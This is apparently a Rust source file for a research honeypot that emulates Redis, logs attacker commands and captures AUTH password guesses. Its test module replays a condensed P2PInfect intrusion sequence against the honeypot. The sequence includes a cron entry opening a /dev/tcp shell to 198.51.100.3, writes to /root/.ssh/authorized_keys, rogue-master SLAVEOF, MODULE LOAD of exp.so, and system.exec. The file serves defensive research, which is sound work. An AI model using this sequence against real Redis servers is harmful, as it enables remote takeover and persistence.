//! Medium-interaction Redis honeypot (RedisHoneyPot-style).
//!
//! Emulates the command set the original Go implementation answers (§4.1:
//! "14 different operations commonly used with Redis, including commands
//! such as SET, GET, DEL, FLUSHDB, and SLAVEOF") against a real
//! [`KvStore`], plus the commands the observed campaigns need (`CONFIG`,
//! `MODULE`, `SAVE`, `INFO`, `TYPE`). The fake-data variant preloads 200
//! Mockaroo-style login entries (§4.2).
//!
//! Ethics parity with the paper: `MODULE LOAD` and `system.exec` record the
//! attempt and answer an error; nothing is ever executed.

use crate::catalog;
use crate::logging::SessionLogger;
use crate::session::{Flow, Session};
use decoy_store::kv::{KvStore, ReplicationRole};
use decoy_wire::cursor::sat_i64;
use decoy_wire::resp::{as_command, RedisCommand, RespCodec, RespValue};
use std::sync::Arc;

/// The medium-interaction Redis honeypot. The default configuration has an
/// empty keyspace; every session of an instance shares its keyspace.
#[derive(Clone, Default)]
pub struct RedisHoneypot {
    kv: Arc<KvStore>,
}

impl RedisHoneypot {
    /// Fake-data configuration: preloaded `(username, password)` entries.
    pub fn with_fake_data(entries: impl IntoIterator<Item = (String, String)>) -> Self {
        RedisHoneypot {
            kv: Arc::new(KvStore::with_entries(entries)),
        }
    }

    /// The backing keyspace (forensics and tests).
    pub fn kv(&self) -> &Arc<KvStore> {
        &self.kv
    }

    fn execute(&self, cmd: &RedisCommand) -> RespValue {
        match cmd.name.as_str() {
            "PING" => RespValue::Simple("PONG".into()),
            // modern clients (redis-cli 6+) open with HELLO; answer the
            // RESP2 fallback map so they proceed
            "HELLO" => RespValue::Array(vec![
                RespValue::bulk("server"),
                RespValue::bulk("redis"),
                RespValue::bulk("version"),
                RespValue::bulk(catalog::REDIS_VERSION),
                RespValue::bulk("proto"),
                RespValue::Integer(2),
                RespValue::bulk("mode"),
                RespValue::bulk("standalone"),
                RespValue::bulk("role"),
                RespValue::bulk("master"),
            ]),
            "ECHO" => cmd
                .args
                .first()
                .map(|a| RespValue::Bulk(a.clone()))
                .unwrap_or_else(|| wrong_args("echo")),
            // real Redis validates the index: 16 databases, integers only
            "SELECT" => match cmd.arg_text(0).map(|s| s.parse::<i64>()) {
                Some(Ok(ix)) if (0..16).contains(&ix) => RespValue::Simple("OK".into()),
                Some(Ok(_)) => RespValue::Error("ERR DB index is out of range".into()),
                Some(Err(_)) => {
                    RespValue::Error("ERR value is not an integer or out of range".into())
                }
                None => wrong_args("select"),
            },
            "AUTH" => RespValue::Error("ERR Client sent AUTH, but no password is set.".into()),
            "SET" => {
                let (Some(key), Some(value)) = (cmd.arg_text(0), cmd.args.get(1)) else {
                    return wrong_args("set");
                };
                self.kv.set(&key, value.to_vec());
                RespValue::Simple("OK".into())
            }
            "GET" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("get");
                };
                match self.kv.get(&key) {
                    Some(v) => RespValue::Bulk(v.into()),
                    None => RespValue::NullBulk,
                }
            }
            "DEL" => {
                let keys: Vec<String> = (0..cmd.args.len())
                    .filter_map(|i| cmd.arg_text(i))
                    .collect();
                let refs: Vec<&str> = keys.iter().map(String::as_str).collect();
                RespValue::Integer(sat_i64(self.kv.del(&refs)))
            }
            "EXISTS" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("exists");
                };
                RespValue::Integer(self.kv.exists(&key) as i64)
            }
            "KEYS" => {
                let pattern = cmd.arg_text(0).unwrap_or_else(|| "*".into());
                RespValue::Array(
                    self.kv
                        .keys(&pattern)
                        .into_iter()
                        .map(RespValue::bulk)
                        .collect(),
                )
            }
            "TYPE" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("type");
                };
                RespValue::Simple(self.kv.type_of(&key).into())
            }
            "DBSIZE" => RespValue::Integer(sat_i64(self.kv.len())),
            "FLUSHDB" | "FLUSHALL" => {
                self.kv.flush();
                RespValue::Simple("OK".into())
            }
            "SAVE" => {
                self.kv.save();
                RespValue::Simple("OK".into())
            }
            "HSET" => {
                let (Some(key), Some(field), Some(value)) =
                    (cmd.arg_text(0), cmd.arg_text(1), cmd.args.get(2))
                else {
                    return wrong_args("hset");
                };
                RespValue::Integer(self.kv.hset(&key, &field, value.to_vec()) as i64)
            }
            "HGET" => {
                let (Some(key), Some(field)) = (cmd.arg_text(0), cmd.arg_text(1)) else {
                    return wrong_args("hget");
                };
                match self.kv.hget(&key, &field) {
                    Some(v) => RespValue::Bulk(v.into()),
                    None => RespValue::NullBulk,
                }
            }
            "HGETALL" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("hgetall");
                };
                let mut items = Vec::new();
                for (field, value) in self.kv.hgetall(&key) {
                    items.push(RespValue::bulk(field));
                    items.push(RespValue::Bulk(value.into()));
                }
                RespValue::Array(items)
            }
            "RPUSH" | "LPUSH" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("rpush");
                };
                if cmd.args.len() < 2 {
                    return wrong_args("rpush");
                }
                let tail: Vec<Vec<u8>> = cmd
                    .args
                    .get(1..)
                    .unwrap_or_default()
                    .iter()
                    .map(|b| b.to_vec())
                    .collect();
                RespValue::Integer(sat_i64(self.kv.rpush(&key, tail)))
            }
            "LRANGE" => {
                let (Some(key), Some(start), Some(stop)) =
                    (cmd.arg_text(0), cmd.arg_text(1), cmd.arg_text(2))
                else {
                    return wrong_args("lrange");
                };
                let (Ok(start), Ok(stop)) = (start.parse::<i64>(), stop.parse::<i64>()) else {
                    return RespValue::Error("ERR value is not an integer or out of range".into());
                };
                RespValue::Array(
                    self.kv
                        .lrange(&key, start, stop)
                        .into_iter()
                        .map(|v| RespValue::Bulk(v.into()))
                        .collect(),
                )
            }
            "LLEN" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("llen");
                };
                RespValue::Integer(sat_i64(self.kv.llen(&key)))
            }
            "INFO" => RespValue::Bulk(self.info_text(cmd.arg_text(0)).into_bytes().into()),
            "CONFIG" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
                Some("GET") => {
                    let param = cmd.arg_text(1).unwrap_or_else(|| "*".into());
                    let mut items = Vec::new();
                    for (k, v) in self.kv.config_get(&param) {
                        items.push(RespValue::bulk(k));
                        items.push(RespValue::bulk(v));
                    }
                    RespValue::Array(items)
                }
                Some("SET") => {
                    let (Some(param), Some(value)) = (cmd.arg_text(1), cmd.arg_text(2)) else {
                        return wrong_args("config|set");
                    };
                    self.kv.config_set(&param, &value);
                    RespValue::Simple("OK".into())
                }
                _ => RespValue::Error(
                    "ERR Unknown CONFIG subcommand or wrong number of arguments".into(),
                ),
            },
            "SLAVEOF" | "REPLICAOF" => {
                let host = cmd.arg_text(0).unwrap_or_default();
                let port = cmd.arg_text(1).unwrap_or_default();
                if host.eq_ignore_ascii_case("no") && port.eq_ignore_ascii_case("one") {
                    self.kv.set_role(ReplicationRole::Master);
                } else if let Ok(port) = port.parse::<u16>() {
                    self.kv.set_role(ReplicationRole::SlaveOf { host, port });
                } else {
                    return RespValue::Error("ERR Invalid master port".into());
                }
                RespValue::Simple("OK".into())
            }
            "MODULE" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
                Some("LOAD") => {
                    let path = cmd.arg_text(1).unwrap_or_default();
                    self.kv.module_load(&path);
                    // Real Redis errors unless the .so is valid; the rogue
                    // module never is (we never wrote the attacker's file).
                    RespValue::Error(format!("ERR Error loading the extension: {path}"))
                }
                Some("UNLOAD") => {
                    let name = cmd.arg_text(1).unwrap_or_default();
                    if self.kv.module_unload(&name) {
                        RespValue::Simple("OK".into())
                    } else {
                        RespValue::Error(format!(
                            "ERR Error unloading module: no such module {name}"
                        ))
                    }
                }
                Some("LIST") => RespValue::Array(vec![]),
                _ => RespValue::Error("ERR Unknown MODULE subcommand".into()),
            },
            // `system.exec` / `eval` arrive from rogue-module and CVE
            // exploits; with no module loaded they fail exactly like this.
            "SYSTEM.EXEC" => unknown_command(cmd, "system.exec"),
            "EVAL" => {
                RespValue::Error("ERR Error compiling script (new function): user_script:1".into())
            }
            other => unknown_command(cmd, other),
        }
    }

    // Real Redis returns only the requested section (`INFO server` has no
    // Keyspace block, an unknown section yields an empty bulk) — answering
    // everything regardless was a probe-visible tell.
    fn info_text(&self, section: Option<String>) -> String {
        let want = section.map(|s| s.to_ascii_lowercase());
        let want = want.as_deref();
        let all = matches!(want, None | Some("all" | "default" | "everything"));
        let mut out = String::new();
        if all || want == Some("server") {
            out.push_str(&format!(
                "# Server\r\nredis_version:{}\r\nredis_mode:standalone\r\n\
                 os:Linux 4.15.0 x86_64\r\ntcp_port:6379\r\n",
                catalog::REDIS_VERSION
            ));
        }
        if all || want == Some("clients") {
            out.push_str("# Clients\r\nconnected_clients:1\r\n");
        }
        if all || want == Some("replication") {
            let role = match self.kv.role() {
                ReplicationRole::Master => "role:master".to_string(),
                ReplicationRole::SlaveOf { host, port } => {
                    format!("role:slave\r\nmaster_host:{host}\r\nmaster_port:{port}")
                }
            };
            out.push_str(&format!(
                "# Replication\r\n{role}\r\nconnected_slaves:0\r\n"
            ));
        }
        if all || want == Some("keyspace") {
            out.push_str(&format!(
                "# Keyspace\r\ndb0:keys={},expires=0,avg_ttl=0\r\n",
                self.kv.len()
            ));
        }
        out
    }
}

impl Session for RedisHoneypot {
    type Codec = RespCodec;

    fn codec(&self) -> RespCodec {
        RespCodec::server()
    }

    fn on_frame(
        &mut self,
        value: RespValue,
        out: &mut Vec<RespValue>,
        log: &SessionLogger,
    ) -> Flow {
        let cmd = match prelude(&value, out, log) {
            Ok(cmd) => cmd,
            Err(flow) => return flow,
        };
        out.push(self.execute(&cmd));
        Flow::Continue
    }
}

/// The steps both Redis machines (this one and `low::LowRedis`) take before
/// their own reply: a frame that is no command, or inline garbage, is
/// answered here; a command is logged, an `AUTH` guess captured as a
/// credential, and `QUIT` answered. `Err(flow)`: the frame is answered.
pub(crate) fn prelude(
    value: &RespValue,
    out: &mut Vec<RespValue>,
    log: &SessionLogger,
) -> Result<RedisCommand, Flow> {
    let Some(cmd) = as_command(value) else {
        out.push(RespValue::Error(
            "ERR Protocol error: expected command".into(),
        ));
        return Err(Flow::Continue);
    };
    // Inline garbage (JDWP probes, RDP cookies, random floods) is a
    // payload capture; only plausible Redis verbs proceed as commands.
    if let RespValue::Inline(line) = value {
        let plausible = cmd.name.len() <= 20
            && cmd
                .name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
        if decoy_store::foreign::recognize(line).is_some() || !plausible {
            log.payload(line);
            out.push(RespValue::Error(
                "ERR Protocol error: unbalanced quotes in request".into(),
            ));
            return Err(Flow::Continue);
        }
    }
    log.command(&cmd.render());
    if cmd.name == "AUTH" {
        // whether no password is set or every guess is wrong, the guess is
        // a credential capture (the 5-IP Redis brute cluster of Table 9);
        // `AUTH <user> <pass>` is the Redis 6 ACL form
        let (username, password) = if cmd.args.len() > 1 {
            (
                cmd.arg_text(0).unwrap_or_default(),
                cmd.arg_text(1).unwrap_or_default(),
            )
        } else {
            ("default".to_string(), cmd.arg_text(0).unwrap_or_default())
        };
        log.login(&username, &password, false);
    }
    if cmd.name == "QUIT" {
        out.push(RespValue::Simple("OK".into()));
        return Err(Flow::Close);
    }
    Ok(cmd)
}

fn wrong_args(cmd: &str) -> RespValue {
    let mut msg = String::new();
    let _ = catalog::redis_wrong_args(&mut msg, cmd);
    RespValue::Error(msg)
}

// Redis ≥5 echoes the command in backticks with its leading args; the old
// quoted pre-5 format contradicted the advertised 5.0.7 banner.
fn unknown_command(cmd: &RedisCommand, name: &str) -> RespValue {
    let mut msg = String::new();
    let _ = catalog::redis_unknown_command(
        &mut msg,
        name,
        (0..cmd.args.len()).filter_map(|i| cmd.arg_text(i)),
    );
    RespValue::Error(msg)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::{logins, Driver};
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};

    type Client = Driver<RespCodec>;

    fn connect(fake_data: bool) -> (Client, Arc<EventStore>, RedisHoneypot) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            if fake_data {
                ConfigVariant::FakeData
            } else {
                ConfigVariant::Default
            },
            0,
        );
        let hp = if fake_data {
            RedisHoneypot::with_fake_data((0..5).map(|i| (format!("user:{i}"), format!("pw{i}"))))
        } else {
            RedisHoneypot::default()
        };
        let client = Driver::connect(hp.clone(), &store, id, RespCodec::client());
        (client, store, hp)
    }

    fn roundtrip(f: &mut Client, parts: &[&str]) -> RespValue {
        f.roundtrip(&RespValue::command(parts))
    }

    #[test]
    fn crud_commands_hit_the_real_store() {
        let (mut f, _store, hp) = connect(false);
        assert_eq!(
            roundtrip(&mut f, &["SET", "x", "hello"]),
            RespValue::Simple("OK".into())
        );
        assert_eq!(roundtrip(&mut f, &["GET", "x"]), RespValue::bulk("hello"));
        assert_eq!(roundtrip(&mut f, &["DBSIZE"]), RespValue::Integer(1));
        assert_eq!(
            roundtrip(&mut f, &["TYPE", "x"]),
            RespValue::Simple("string".into())
        );
        assert_eq!(roundtrip(&mut f, &["DEL", "x"]), RespValue::Integer(1));
        assert_eq!(roundtrip(&mut f, &["GET", "x"]), RespValue::NullBulk);
        assert!(hp.kv().is_empty());
    }

    #[test]
    fn fake_data_type_walk_like_the_paper() {
        // §6: "after retrieving the full list of database entries, used the
        // TYPE command on each entry individually".
        let (mut f, store, _hp) = connect(true);
        let RespValue::Array(keys) = roundtrip(&mut f, &["KEYS", "*"]) else {
            panic!("expected key list");
        };
        assert_eq!(keys.len(), 5);
        for key in &keys {
            let name = key.as_text().unwrap();
            let reply = roundtrip(&mut f, &["TYPE", &name]);
            assert_eq!(reply, RespValue::Simple("string".into()));
        }
        let commands = store.filter(|e| matches!(e.kind, EventKind::Command { .. }));
        assert_eq!(commands.len(), 1 + 5); // KEYS + five TYPEs
    }

    #[test]
    fn p2pinfect_command_sequence_is_served_and_logged() {
        // Condensed Listing 1.
        let (mut f, store, hp) = connect(false);
        roundtrip(&mut f, &["INFO", "server"]);
        roundtrip(&mut f, &["FLUSHDB"]);
        roundtrip(
            &mut f,
            &[
                "SET",
                "x",
                "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n",
            ],
        );
        assert_eq!(
            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]),
            RespValue::Simple("OK".into())
        );
        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "authorized_keys"]);
        roundtrip(&mut f, &["SAVE"]);
        assert_eq!(
            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/tmp/"]),
            RespValue::Simple("OK".into())
        );
        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "exp.so"]);
        assert_eq!(
            roundtrip(&mut f, &["SLAVEOF", "198.51.100.3", "8886"]),
            RespValue::Simple("OK".into())
        );
        let module_reply = roundtrip(&mut f, &["MODULE", "LOAD", "/tmp/exp.so"]);
        assert!(matches!(module_reply, RespValue::Error(_)));
        assert_eq!(
            roundtrip(&mut f, &["SLAVEOF", "NO", "ONE"]),
            RespValue::Simple("OK".into())
        );
        let exec_reply = roundtrip(&mut f, &["system.exec", "rm -rf /tmp/exp.so"]);
        assert!(matches!(exec_reply, RespValue::Error(_)));

        // forensics: the module path was recorded, nothing executed
        assert_eq!(hp.kv().loaded_modules(), vec!["/tmp/exp.so"]);
        assert_eq!(hp.kv().role(), ReplicationRole::Master);
        // the SLAVEOF command is logged with masked ip/port for clustering
        let slaveof = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action == "SLAVEOF <IP> <N>")
        });
        assert_eq!(slaveof.len(), 1);
    }

    #[test]
    fn hash_and_list_commands_over_the_wire() {
        let (mut f, _store, _hp) = connect(false);
        assert_eq!(
            roundtrip(&mut f, &["HSET", "session", "user", "root"]),
            RespValue::Integer(1)
        );
        assert_eq!(
            roundtrip(&mut f, &["HGET", "session", "user"]),
            RespValue::bulk("root")
        );
        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]) else {
            panic!();
        };
        assert_eq!(pairs.len(), 2);
        assert_eq!(
            roundtrip(&mut f, &["RPUSH", "queue", "a", "b"]),
            RespValue::Integer(2)
        );
        assert_eq!(
            roundtrip(&mut f, &["LRANGE", "queue", "0", "-1"]),
            RespValue::Array(vec![RespValue::bulk("a"), RespValue::bulk("b")])
        );
        assert_eq!(roundtrip(&mut f, &["LLEN", "queue"]), RespValue::Integer(2));
        assert_eq!(
            roundtrip(&mut f, &["TYPE", "queue"]),
            RespValue::Simple("list".into())
        );
    }

    #[test]
    fn info_reflects_replication_role() {
        let (mut f, _store, _hp) = connect(false);
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]) else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
        assert!(text.contains("role:master"));
        assert!(text.contains("redis_version:5.0.7"));
        roundtrip(&mut f, &["SLAVEOF", "198.51.100.9", "8886"]);
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]) else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
        assert!(text.contains("role:slave"));
        assert!(text.contains("master_port:8886"));
        // a sectioned INFO answers only that section, like the real server
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "server"]) else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
        assert!(text.contains("redis_version:5.0.7"));
        assert!(!text.contains("# Keyspace"));
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "nonsense"]) else {
            panic!();
        };
        assert!(info.is_empty());
    }

    #[test]
    fn echo_select_exists_and_config_get() {
        let (mut f, _store, _hp) = connect(false);
        assert_eq!(
            roundtrip(&mut f, &["ECHO", "hello"]),
            RespValue::bulk("hello")
        );
        assert_eq!(
            roundtrip(&mut f, &["SELECT", "0"]),
            RespValue::Simple("OK".into())
        );
        assert_eq!(
            roundtrip(&mut f, &["EXISTS", "nope"]),
            RespValue::Integer(0)
        );
        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]) else {
            panic!("expected config pairs");
        };
        assert_eq!(pairs[0], RespValue::bulk("dir"));
        assert_eq!(pairs[1], RespValue::bulk("/var/lib/redis"));
        // AUTH with no server password set: error, but credentials captured
        let reply = roundtrip(&mut f, &["AUTH", "secret123"]);
        assert!(matches!(reply, RespValue::Error(_)));
        // wrong-arity commands answer arity errors, not crashes
        let reply = roundtrip(&mut f, &["GET"]);
        assert!(matches!(reply, RespValue::Error(_)));
    }

    #[test]
    fn auth_guesses_are_credential_captures() {
        let (mut f, store, _hp) = connect(false);
        roundtrip(&mut f, &["AUTH", "redis123"]);
        roundtrip(&mut f, &["AUTH", "acluser", "aclpass"]);
        assert_eq!(
            logins(&store),
            vec![
                ("default".to_string(), "redis123".to_string()),
                ("acluser".to_string(), "aclpass".to_string()),
            ]
        );
    }

    #[test]
    fn hello_answers_resp2_fallback() {
        let (mut f, _store, _hp) = connect(false);
        let RespValue::Array(fields) = roundtrip(&mut f, &["HELLO"]) else {
            panic!("expected HELLO map");
        };
        assert!(fields.contains(&RespValue::bulk("version")));
        assert!(fields.contains(&RespValue::bulk("5.0.7")));
    }

    #[test]
    fn unknown_commands_error_and_are_logged() {
        let (mut f, store, _hp) = connect(false);
        let reply = roundtrip(&mut f, &["TOTALLYBOGUS", "arg1"]);
        assert_eq!(
            reply,
            RespValue::Error(
                "ERR unknown command `TOTALLYBOGUS`, with args beginning with: `arg1`, ".into()
            )
        );
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            1
        );
    }
}
